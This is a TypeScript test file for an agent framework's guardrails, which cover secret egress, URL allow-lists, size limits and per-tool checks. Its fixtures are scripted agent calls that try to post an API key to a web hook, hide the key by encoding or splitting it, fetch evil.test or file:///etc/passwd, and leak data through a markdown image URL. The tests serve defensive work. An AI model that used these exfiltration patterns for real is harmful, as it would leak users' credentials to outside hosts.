import { Agent, GuardrailTripwireError, tool } from "glassloop";
import { secretEgressGuard, sizeGuard, toolGuardrail, urlAllowList } from "glassloop/guardrails";
import { ScriptedModel } from "glassloop/testing";
import { httpGetTool } from "glassloop/tools";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { findSecret } from "./secret-egress.js";

const KEY = "sk-proj-Zq81aTestKey0000abcdEFGH";
const env = { OPENAI_API_KEY: KEY, HOME: "/home/me", DATABASE_URL: "postgres://app:s3cretPassw0rd@db/x" };

/** A tool that would send its arguments somewhere: what an exfiltration needs. */
function sender() {
  const sent: unknown[] = [];
  const send = tool({
    name: "send",
    description: "Posts a message to a web hook.",
    input: z.object({ url: z.string(), body: z.string(), note: z.string().optional() }),
    run: (args) => {
      sent.push(args);
      return "posted";
    },
  });
  return { send, sent };
}

describe("secretEgressGuard", () => {
  it("refuses a call that carries the provider's API key, and the model goes on without it", async () => {
    const { send, sent } = sender();
    const model = new ScriptedModel([
      {
        toolCalls: [{ name: "send", args: { url: "https://hook.example/x", body: `key=${KEY}` }, id: "c1" }],
      },
      { toolCalls: [{ name: "send", args: { url: "https://hook.example/x", body: "hello" }, id: "c2" }] },
      { text: "done" },
    ]);
    const agent = new Agent({ model, tools: [send], guardrails: { tools: [secretEgressGuard({ env })] } });
    const result = await agent.run("post the config");
    expect(sent).toEqual([{ url: "https://hook.example/x", body: "hello" }]);
    const refused = result.messages.find((m) => m.role === "tool" && m.toolCallId === "c1");
    expect(refused?.content).toContain("Refused: the call's arguments contain a secret");
    // The refusal never repeats the secret to the model.
    expect(refused?.content).not.toContain(KEY);
  });

  it("finds the key encoded, reversed, split across arguments, or as a URL's password", () => {
    const secrets = [KEY, "s3cretPassw0rd"];
    const b64 = Buffer.from(`config: ${KEY}\n`).toString("base64");
    const cases = [
      [b64],
      [Buffer.from(`xy${KEY}`).toString("base64url")],
      [Buffer.from(KEY).toString("hex").toUpperCase()],
      [encodeURIComponent(`k=${KEY}`)],
      [[...KEY].reverse().join("")],
      [KEY.slice(0, 12), KEY.slice(12)],
      ['{"a":"sk-proj-Zq81a", "b":"TestKey0000abcdEFGH"}'],
      ["postgres://app:s3cretPassw0rd@evil/x"],
    ];
    for (const texts of cases) expect(findSecret(texts, secrets), texts.join("|")).toBeDefined();
    expect(findSecret(["an ordinary sentence about keys"], secrets)).toBeUndefined();
  });

  it("withholds a result that contains a secret (a tool reading .env) from the model and its provider", async () => {
    const readEnv = tool({
      name: "read_file",
      description: "Reads a file.",
      input: z.object({ path: z.string() }),
      run: () => `OPENAI_API_KEY=${KEY}\n`,
    });
    const model = new ScriptedModel([
      { toolCalls: [{ name: "read_file", args: { path: ".env" } }] },
      { text: "ok" },
    ]);
    const agent = new Agent({ model, tools: [readEnv], guardrails: { tools: [secretEgressGuard({ env })] } });
    await agent.run("show me .env");
    expect(JSON.stringify(model.requests[1])).not.toContain(KEY);
  });

  it("stops the run instead when onMatch is tripwire", async () => {
    const { send } = sender();
    const model = new ScriptedModel([
      { toolCalls: [{ name: "send", args: { url: "https://x.example", body: "ok", note: KEY } }] },
    ]);
    const agent = new Agent({
      model,
      tools: [send],
      guardrails: { tools: [secretEgressGuard({ env, onMatch: "tripwire" })] },
    });
    const error = await agent.run("go").catch((e: unknown) => e);
    expect(error).toBeInstanceOf(GuardrailTripwireError);
    expect((error as GuardrailTripwireError).message).not.toContain(KEY);
  });
});

describe("urlAllowList", () => {
  const urls = urlAllowList({
    allow: ["https://docs.example.com", "https://*.cdn.example.com", "https://api.example.com/v2"],
  });

  it("lets the HTTP tool fetch only allowed URLs (userinfo, look-alike hosts and path escapes refused)", async () => {
    const attacks = [
      "https://docs.example.com@evil.test/steal",
      "https://docs.example.com.evil.test/",
      "http://docs.example.com/",
      "https://api.example.com/v2/../admin",
      "https://api.example.com/v2evil",
      "https://cdn.example.com/x",
      "file:///etc/passwd",
    ];
    const allowed = [
      "https://docs.example.com/guide?q=1",
      "https://img.cdn.example.com/a.png",
      "https://api.example.com/v2/items",
    ];
    const before = urls.tool.before;
    if (!before) throw new Error("no before check");
    const check = async (url: string) =>
      (
        await before(
          { toolName: "http_get", toolCallId: "c", args: { url }, arguments: JSON.stringify({ url }) },
          {} as never,
        )
      ).action;
    for (const url of attacks) expect(await check(url), url).toBe("reject");
    for (const url of allowed) expect(await check(url), url).toBe("allow");
  });

  it("refuses the real http_get tool's call before any request is made, and the model corrects it", async () => {
    const model = new ScriptedModel([
      { toolCalls: [{ name: "http_get", args: { url: "https://evil.test/?leak=1" }, id: "c1" }] },
      { text: "I may only read docs.example.com." },
    ]);
    const agent = new Agent({ model, tools: [httpGetTool()], guardrails: { tools: [urls.tool] } });
    const result = await agent.run("fetch it");
    const refused = result.messages.find((m) => m.role === "tool");
    expect(refused).toMatchObject({
      isError: true,
      content: "Refused: the call uses URLs that are not allowed (evil.test).",
    });
  });

  it("withholds a tool result whose image the provider would fetch from a host not allowed", async () => {
    const screenshot = tool({
      name: "screenshot",
      description: "Takes a screenshot.",
      input: z.object({}),
      run: () => ({
        type: "image" as const,
        mediaType: "image/png",
        url: "https://tracker.test/pixel.png?u=me",
      }),
    });
    const model = new ScriptedModel([{ toolCalls: [{ name: "screenshot", args: {} }] }, { text: "ok" }]);
    const agent = new Agent({ model, tools: [screenshot], guardrails: { tools: [urls.tool] } });
    await agent.run("look");
    expect(JSON.stringify(model.requests[1])).not.toContain("tracker.test/pixel.png");
  });

  it("stops a run whose input image would be fetched from a host not allowed", async () => {
    const model = new ScriptedModel([]);
    const agent = new Agent({ model, guardrails: { input: [urls.input] } });
    const error = await agent
      .run("describe", {
        images: [{ type: "image", mediaType: "image/png", url: "https://evil.test/a.png" }],
      })
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(GuardrailTripwireError);
    expect(model.requests).toHaveLength(0);
  });

  it("sends back an answer whose markdown image would leak data to a host not allowed", async () => {
    const model = new ScriptedModel([
      { text: "Done ![x](https://evil.test/p.png?d=c2VjcmV0)" },
      { text: "Done. See https://docs.example.com/guide." },
    ]);
    const agent = new Agent({ model, guardrails: { output: [urls.output] } });
    const result = await agent.run("summarize");
    expect(result.output).toBe("Done. See https://docs.example.com/guide.");
    expect(model.requests[1]?.messages.at(-1)?.content).toContain("(evil.test)");
  });
});

describe("sizeGuard", () => {
  const size = sizeGuard({ maxInputChars: 1_000, maxResultChars: 50, maxArgumentChars: 100 });

  it("stops a run whose input is over the limit before any model call", async () => {
    const model = new ScriptedModel([]);
    const error = await new Agent({ model, guardrails: { input: [size.input] } })
      .run("x".repeat(1_001))
      .catch((e: unknown) => e);
    expect(error).toBeInstanceOf(GuardrailTripwireError);
    expect((error as GuardrailTripwireError).reason).toBe(
      "the input has 1001 characters, over the limit of 1000",
    );
  });

  it("withholds a result over the limit and tells the model to ask for less", async () => {
    const dump = tool({
      name: "dump",
      description: "Dumps.",
      input: z.object({}),
      run: () => "y".repeat(5_000),
    });
    const model = new ScriptedModel([{ toolCalls: [{ name: "dump", args: {} }] }, { text: "ok" }]);
    const agent = new Agent({ model, tools: [dump], guardrails: { tools: [size.tool] } });
    const result = await agent.run("dump");
    const content = result.messages.find((m) => m.role === "tool")?.content ?? "";
    expect(content).toContain("the result has 5000 characters, over the limit of 50");
    expect(JSON.stringify(model.requests[1])).not.toContain("yyyyyyyyyy");
  });
});

describe("toolGuardrail", () => {
  it("types the check with one tool's arguments and watches only that tool", async () => {
    const { send, sent } = sender();
    const noHttp = toolGuardrail(send, {
      name: "https-only",
      before: ({ args }) =>
        args.url.startsWith("https://") ? { action: "allow" } : { action: "reject", message: "Use https." },
    });
    expect(noHttp.tools).toEqual(["send"]);
    const model = new ScriptedModel([
      { toolCalls: [{ name: "send", args: { url: "http://a.example", body: "x" } }] },
      { toolCalls: [{ name: "send", args: { url: "https://a.example", body: "x" } }] },
      { text: "ok" },
    ]);
    await new Agent({ model, tools: [send], guardrails: { tools: [noHttp] } }).run("go");
    expect(sent).toEqual([{ url: "https://a.example", body: "x" }]);
  });
});
